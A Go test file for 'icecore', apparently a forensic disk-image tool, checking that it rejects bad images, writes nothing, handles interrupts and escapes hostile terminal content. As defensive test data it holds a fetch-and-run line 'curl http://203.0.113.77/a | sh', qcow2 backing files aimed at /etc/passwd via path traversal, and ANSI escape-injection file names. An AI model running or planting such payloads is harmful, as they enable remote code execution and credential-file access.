package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"icecore/fixtures"
)

// commands are all that open an image, as a person would type them.
var commands = [][]string{
	{"analyze"},
	{"analyze", "--format", "json"},
	{"analyze", "-o", "case"},
	{"timeline"},
	{"timeline", "--files-only", "--format", "bodyfile"},
	{"timeline", "--files-only", "--format", "csv"},
	{"scan"},
	{"info"},
	{"info", "--format", "json"},
	{"ls"},
	{"ls", "-R", "--hash", "--format", "jsonl"},
	{"cat", "--inode", "12"},
	{"stat", "--inode", "12"},
}

// TestBadInput gives each command what is no image that can be read: one clear line
// on stderr, exit code 1, nothing on stdout, nothing left behind.
func TestBadInput(t *testing.T) {
	dir := t.TempDir()
	file := func(name, content string) {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	file("empty", "")
	file("text", strings.Repeat("This is no disk.\n", 1000))
	file("short", "x")
	file("zeros", strings.Repeat("\x00", 1<<20))
	file("gzip", "\x1f\x8b\x08"+strings.Repeat("\x00", 4096))
	file("bad\x1b[31mname\n", "")
	if err := os.Mkdir(filepath.Join(dir, "subdir"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("nowhere", filepath.Join(dir, "dangling")); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(dir, "fifo"), 0o644); err != nil {
		t.Fatal(err)
	}
	cases := []struct{ image, want string }{
		{"empty", "empty: is empty"},
		{"text", "text: neither a partition table nor a filesystem was found"},
		{"short", "short: neither a partition table nor a filesystem was found"},
		{"zeros", "zeros: neither a partition table nor a filesystem was found"},
		{"gzip", "gzip: is compressed by gzip: not supported; unpack it first"},
		{"subdir", "subdir: is a directory"},
		{"dangling", "dangling: no such file or directory"},
		{"nonexistent", "nonexistent: no such file or directory"},
		{"fifo", "fifo: is neither a file nor a block device"},
		{"/dev/null", "/dev/null: is neither a file nor a block device"},
		{"bad\x1b[31mname\n", `bad\x1b[31mname`},
	}
	if _, err := exec.LookPath("qemu-img"); err != nil {
		t.Log("qemu-img is not installed: no qcow2 images")
	} else {
		qcow := func(name string, args ...string) {
			args = append(append([]string{"create", "-q", "-f", "qcow2"}, args...), filepath.Join(dir, name), "8M")
			if out, err := exec.Command("qemu-img", args...).CombinedOutput(); err != nil {
				t.Fatalf("qemu-img: %v: %s", err, out)
			}
		}
		qcow("blank.qcow2")
		whole, err := os.ReadFile(filepath.Join(dir, "blank.qcow2"))
		if err != nil {
			t.Fatal(err)
		}
		file("cut.qcow2", string(whole[:300]))
		file("head.qcow2", string(whole[:20]))
		qcow("missing.qcow2", "-u", "-b", "gone.qcow2", "-F", "qcow2")
		qcow("loop1.qcow2", "-u", "-b", "loop2.qcow2", "-F", "qcow2")
		qcow("loop2.qcow2", "-u", "-b", "loop1.qcow2", "-F", "qcow2")
		qcow("passwd.qcow2", "-u", "-b", "/etc/passwd", "-F", "raw")
		qcow("up.qcow2", "-u", "-b", "../../../../../../../../etc/passwd", "-F", "raw")
		qcow("escape.qcow2", "-u", "-b", "gone\x1b[31m\n", "-F", "raw")
		qcow("nbd.qcow2", "-u", "-b", "nbd:192.0.2.1:10809", "-F", "raw")
		cases = append(cases, []struct{ image, want string }{
			{"blank.qcow2", "blank.qcow2: neither a partition table nor a filesystem was found"},
			{"cut.qcow2", "cut.qcow2: qcow2: truncated"},
			{"head.qcow2", "head.qcow2: qcow2: "},
			{"missing.qcow2", `missing.qcow2: backing file "gone.qcow2": is missing`},
			{"escape.qcow2", `escape.qcow2: backing file "gone\x1b[31m\x0a": is missing`},
			{"loop1.qcow2", "leads back to the image: a loop"},
			{"passwd.qcow2", `passwd.qcow2: backing file "/etc/passwd": refused: it is not in the directory of the image`},
			{"up.qcow2", "refused: it is not in the directory of the image"},
			{"nbd.qcow2", "refused: it is not a plain file name"},
		}...)
	}
	for i, c := range cases {
		// All commands open an image in one place: each is given some of the
		// images, so that all pairs need not be run.
		for j, command := range commands {
			if i >= 2 && (i+j)%3 != 0 {
				continue
			}
			args := append(append([]string{}, command...), c.image)
			stdout, stderr, code := run(t, dir, args...)
			if code != exitFailed || len(stdout) > 0 || strings.Count(string(stderr), "\n") != 1 ||
				!strings.HasPrefix(string(stderr), "icecore: ") || !strings.Contains(string(stderr), c.want) {
				t.Errorf("icecore %q: exit code %d, stdout %q, stderr %q; want one line with %q", args, code, stdout, stderr,
					c.want)
			}
			if at, b := unsafe(stderr); at >= 0 {
				t.Errorf("icecore %q: stderr holds the byte %#x", args, b)
			}
		}
	}
	left, err := filepath.Glob(filepath.Join(dir, "*case*"))
	hidden, _ := filepath.Glob(filepath.Join(dir, ".*case*"))
	if err != nil || len(left)+len(hidden) > 0 {
		t.Errorf("left behind: %q %q %v", left, hidden, err)
	}
}

// TestDiskWithoutFilesystem: what looks into files fails; info lists the
// partitions.
func TestDiskWithoutFilesystem(t *testing.T) {
	need(t, "sgdisk")
	dir := t.TempDir()
	name := filepath.Join(dir, "disk.raw")
	if err := os.WriteFile(name, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(name, 16<<20); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("sgdisk", "-n", "1:2048:+4M", "-n", "2:0:0", "-t", "2:8200",
		name).CombinedOutput(); err != nil {
		t.Fatalf("sgdisk: %v: %s", err, out)
	}
	for _, command := range commands {
		args := append(append([]string{}, command...), "disk.raw")
		stdout, stderr, code := run(t, dir, args...)
		if command[0] == "info" {
			if code != exitDone || !strings.Contains(string(stdout), "begins with zeros") {
				t.Errorf("icecore %q: exit code %d, stdout %q, stderr %q", args, code, stdout, stderr)
			}
			continue
		}
		if code != exitFailed || len(stdout) > 0 || strings.Count(string(stderr), "\n") != 1 ||
			!strings.Contains(string(stderr), "disk.raw: no filesystem that can be read (volume p1: begins with zeros") {
			t.Errorf("icecore %q: exit code %d, stdout %q, stderr %q", args, code, stdout, stderr)
		}
	}
}

// TestUnreadable runs the program as a user who may not read the image.
func TestUnreadable(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("needs root, to become another user")
	}
	img := sample(t, fixtures.Clean)
	dir := t.TempDir()
	for d := dir; d != "/" && d != os.TempDir(); d = filepath.Dir(d) {
		if err := os.Chmod(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	secret, program := filepath.Join(dir, "secret.img"), filepath.Join(dir, "icecore")
	copyFile(t, img, secret, 0o600)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	copyFile(t, self, program, 0o755)
	for _, command := range commands {
		if len(command) > 1 && command[1] == "-o" {
			continue // it cannot make a directory here either
		}
		cmd := exec.Command(program, append(append([]string{}, command...), secret)...)
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
		cmd.Dir, cmd.Env = "/", []string{"HOME=/", "PATH=/usr/bin:/bin"}
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		out, err := cmd.Output()
		if cmd.ProcessState == nil {
			t.Skipf("the program cannot be started as another user: %v", err)
		}
		if want := "icecore: " + secret + ": permission denied\n"; cmd.ProcessState.ExitCode() != exitFailed ||
			len(out) > 0 || stderr.String() != want {
			t.Errorf("icecore %q: exit code %d, stdout %q, stderr %q, want %q", command, cmd.ProcessState.ExitCode(), out,
				stderr.String(), want)
		}
	}
}

func copyFile(t *testing.T, from, to string, mode os.FileMode) {
	t.Helper()
	b, err := os.ReadFile(from)
	if err == nil {
		err = os.WriteFile(to, b, mode)
	}
	if err == nil {
		err = os.Chmod(to, mode)
	}
	if err != nil {
		t.Fatal(err)
	}
}

// opened matches the lines of strace(1) that open a file.
var opened = regexp.MustCompile(`(?:open|openat|creat)\((?:AT_FDCWD, )?"([^"]*)"(?:\.\.\.)?, ([A-Z_|]+)`)

// changes matches system calls that change files by name.
var changes = regexp.MustCompile(`(?:mkdir|mkdirat|rename|renameat|renameat2|unlink|unlinkat|rmdir|` +
	`truncate|link|linkat|symlink|symlinkat|chmod|fchmodat|chown|fchownat|` +
	`utimensat|setxattr|creat|mknod|mknodat)\([^"]*"([^"]*)"`)

// TestNothingWritten watches the system calls of each command: nothing is opened for
// writing, made, renamed or removed outside of the case directory, and the image is the
// same afterwards.
func TestNothingWritten(t *testing.T) {
	need(t, "strace")
	img := sample(t, fixtures.Compromised)
	dir := t.TempDir()
	name := filepath.Join(dir, "image.raw")
	copyFile(t, img, name, 0o644)
	out := filepath.Join(dir, "out")
	if err := os.Mkdir(out, 0o755); err != nil {
		t.Fatal(err)
	}
	before := fileState(t, name)
	program, err := exec.LookPath("icecore")
	if err != nil {
		t.Fatal(err)
	}
	for _, command := range [][]string{
		{"analyze"},
		{"analyze", "-o", "out/case"},
		{"timeline", "--format", "csv"},
		{"timeline", "--files-only", "--format", "bodyfile"},
		{"scan"},
		{"info", "--hash-image"},
		{"ls", "-R", "--hash", "--deleted"},
		{"stat", "/etc/passwd"},
		{"cat", "/etc/passwd"},
	} {
		log := filepath.Join(t.TempDir(), "strace")
		args := append([]string{"-f", "-o", log, "-e", "trace=file", program, command[0], name}, command[1:]...)
		cmd := exec.Command("strace", args...)
		cmd.Dir = dir
		if b, err := cmd.CombinedOutput(); err != nil {
			if bytes.Contains(b, []byte("ptrace")) {
				t.Skipf("strace cannot trace here: %s", b)
			}
			t.Fatalf("strace %q: %v: %s", args, err, b)
		}
		calls, err := os.ReadFile(log)
		if err != nil {
			t.Fatal(err)
		}
		image := 0
		for _, line := range strings.Split(string(calls), "\n") {
			if strings.HasSuffix(line, "resumed>") || strings.Contains(line, " = -1 E") {
				continue
			}
			if m := opened.FindStringSubmatch(line); m != nil {
				if m[1] == name {
					image++
				}
				if strings.ContainsAny(m[2], "W") && strings.Contains(m[2], "O_WRONLY") || strings.Contains(m[2], "O_RDWR") ||
					strings.Contains(m[2], "O_CREAT") || strings.Contains(m[2], "O_TRUNC") {
					if !strings.HasPrefix(m[1], out+"/") && m[1] != "/dev/null" {
						t.Errorf("icecore %q opens for writing: %s", command, line)
					}
				}
			}
			if m := changes.FindStringSubmatch(line); m != nil {
				if p := m[1]; !strings.HasPrefix(p, out+"/") && !strings.HasPrefix(p, "out/") {
					t.Errorf("icecore %q changes: %s", command, line)
				}
			}
		}
		if image == 0 {
			t.Errorf("icecore %q: strace does not see the image opened: is the test blind?", command)
		}
	}
	if after := fileState(t, name); after != before {
		t.Errorf("the image was %s and is %s", before, after)
	}
	names, err := os.ReadDir(dir)
	if err != nil || len(names) != 2 {
		t.Errorf("beside the image there is more than the output: %v %v", names, err)
	}
}

// fileState tells hash, size and time of modification of a file.
func fileState(t *testing.T, name string) string {
	t.Helper()
	st, err := os.Stat(name)
	if err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("%s, %d bytes, %s, %s", sumOf(t, name), st.Size(), st.ModTime(), st.Mode())
}

// TestInterrupt sends a real Ctrl-C to a real analysis: it ends, says so in one
// line, and leaves nothing half-written.
func TestInterrupt(t *testing.T) {
	img := sample(t, fixtures.Compromised)
	dir := t.TempDir()
	name := filepath.Join(dir, "image.raw")
	copyFile(t, img, name, 0o644)
	// To hash so many bytes takes longer than the test waits.
	if err := os.Truncate(name, 1<<40); err != nil {
		t.Skipf("no sparse file of 1 TiB can be made here: %v", err)
	}
	for _, signal := range []os.Signal{os.Interrupt, syscall.SIGTERM} {
		for _, args := range [][]string{
			{"analyze", "--hash-image", "-o", "case", "image.raw"},
			{"info", "--hash-image", "image.raw"},
			{"analyze", "--hash-image", "--format", "json", "image.raw"},
		} {
			cmd := exec.Command("icecore", args...)
			cmd.Dir = dir
			var stdout, stderr bytes.Buffer
			cmd.Stdout, cmd.Stderr = &stdout, &stderr
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			begun := func() bool { return opens(cmd.Process.Pid, name) }
			if args[2] == "-o" {
				begun = func() bool {
					m, _ := filepath.Glob(filepath.Join(dir, ".case.unfinished-*"))
					return len(m) > 0
				}
			}
			for tries := 0; !begun() && tries < 4000; tries++ {
				time.Sleep(5 * time.Millisecond)
			}
			time.Sleep(100 * time.Millisecond)
			sent := time.Now()
			if err := cmd.Process.Signal(signal); err != nil {
				t.Fatalf("icecore %q ended before it was interrupted: %v: %s", args, err, stderr.String())
			}
			_ = cmd.Wait()
			t.Logf("icecore %q ended %v after %v", args, time.Since(sent).Round(time.Millisecond), signal)
			if code := cmd.ProcessState.ExitCode(); code != exitInterrupted || stderr.String() != "icecore: interrupted\n" ||
				stdout.Len() > 0 {
				t.Errorf("icecore %q: exit code %d, stdout %q, stderr %q", args, code, stdout.String(), stderr.String())
			}
			entries, err := os.ReadDir(dir)
			if err != nil || len(entries) != 1 {
				t.Errorf("icecore %q left behind: %v %v", args, entries, err)
			}
		}
	}
}

// opens says whether a process has a file open.
func opens(pid int, name string) bool {
	links, _ := filepath.Glob(fmt.Sprintf("/proc/%d/fd/*", pid))
	for _, l := range links {
		if target, err := os.Readlink(l); err == nil && target == name {
			return true
		}
	}
	return false
}

// TestTerminal runs the program on a real terminal, made by script(1), over names
// and contents that it would obey.
func TestTerminal(t *testing.T) {
	need(t, "script", "mke2fs")
	dir := t.TempDir()
	if err := hostileTree(filepath.Join(dir, "tree")); err != nil {
		t.Fatal(err)
	}
	if err := mke2fs(filepath.Join(dir, "evil.img"), filepath.Join(dir, "tree")); err != nil {
		t.Fatal(err)
	}
	// Colours, and what the bar of progress needs to redraw itself: nothing that
	// sets a title, asks a question, or moves text about.
	own := regexp.MustCompile(`\x1b\[[0-9;]*m|\x1b\[[0-9]*[AJK]|\x1b\[\?25[hl]`)
	screen := func(env []string, command string) string {
		cmd := exec.Command("script", "-qec", command, "/dev/null")
		cmd.Dir = dir
		cmd.Env = append(append(os.Environ(), "TERM=xterm-256color"), env...)
		cmd.Stdin = strings.NewReader("")
		out, _ := cmd.CombinedOutput()
		return strings.ReplaceAll(string(out), "\r\n", "\n")
	}
	for _, command := range []string{
		"icecore ls -R --deleted evil.img", "icecore analyze --all evil.img", "icecore info evil.img",
		"icecore scan evil.img", "icecore timeline --files-only evil.img",
		`icecore stat evil.img '/tmp/\x1b[31mred'`, `icecore cat evil.img '/etc/hostile\x09text'`,
		"icecore cat evil.img /etc/rc.local", "icecore cat evil.img /etc/binary", `icecore cat evil.img '/\x1b[2J'`,
	} {
		out := screen([]string{"NO_COLOR="}, command)
		if len(out) == 0 {
			t.Errorf("%s: nothing on the terminal", command)
		}
		if at, b := unsafe([]byte(own.ReplaceAllString(out, ""))); at >= 0 {
			t.Errorf("%s: the terminal gets the byte %#x: %q", command, b, out)
		}
		plain := screen([]string{"NO_COLOR=1"}, command)
		if at, b := unsafe([]byte(plain)); at >= 0 {
			t.Errorf("NO_COLOR %s: the terminal gets the byte %#x: %q", command, b, plain)
		}
	}
	if out := screen([]string{"NO_COLOR="}, "icecore analyze evil.img"); !strings.Contains(out, "\x1b[") {
		t.Error("no colours on a terminal: is the test blind?")
	}
	if out := screen(nil, "icecore cat evil.img /etc/binary"); !strings.Contains(out,
		"is binary: send it to a file or a pipe, or use --escape or --force") {
		t.Errorf("binary content on a terminal: %q", out)
	}
	if out := screen(nil, "icecore cat --force evil.img /etc/binary"); !strings.Contains(out, "\x00\x01\x02\x1b[31m") {
		t.Errorf("--force: %q", out)
	}
	if out := screen(nil, "icecore cat evil.img /etc/rc.local"); !strings.Contains(out,
		`\x1b[31mcurl http://203.0.113.77/a | sh\x0d`) || !strings.Contains(out,
		`bytes that are not printable were written as \xNN`) {
		t.Errorf("text on a terminal: %q", out)
	}
}
